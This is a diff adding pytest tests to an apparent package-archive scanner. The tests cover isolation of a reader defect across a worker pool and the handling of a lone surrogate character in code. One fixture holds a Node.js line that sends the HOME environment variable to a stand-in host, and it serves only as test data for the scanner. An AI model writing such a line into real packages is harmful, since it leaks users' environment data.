@@ -95,3 +95,28 @@ def _runs(pid):
         return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
     except FileNotFoundError:
         return False
+
+
+def _fails_on_the_bad_one(data, filename, ecosystem, limits):
+    if filename == "bad.tgz":
+        raise KeyError(filename)
+    return read_encoded(data, filename, ecosystem, limits)
+
+
+def test_a_defect_of_ours_holds_one_archive_and_not_all(monkeypatch):
+    monkeypatch.setattr(readers, "read_encoded", _fails_on_the_bad_one)
+    good, bad = _run(ReaderPool(DEFAULT_LIMITS, workers=1), "good.tgz", "bad.tgz")
+    assert isinstance(good, readers.EncodedContent)
+    assert isinstance(bad, HostileUpstream)
+    assert "KeyError" in bad.message
+    assert "defect of Customhouse" in bad.hint
+
+
+def test_half_a_character_in_code_is_kept_as_an_escape():
+    code = 'require("https").get("https://\\ud800.example.invalid/" + process.env.HOME)\n'
+    data = npm_tarball({"index.js": code}, {"name": "half", "version": "1.0.0"})
+    (encoded,) = _run(ReaderPool(DEFAULT_LIMITS, workers=1), "half.tgz")
+    assert encoded  # the good one, to know that the pool works
+    half = read_encoded(data, "half.tgz", "npm", DEFAULT_LIMITS)
+    opened = msgspec.msgpack.decode(half.opened, type=OpenedArchive)
+    assert opened.facts.manifest.name == "half"
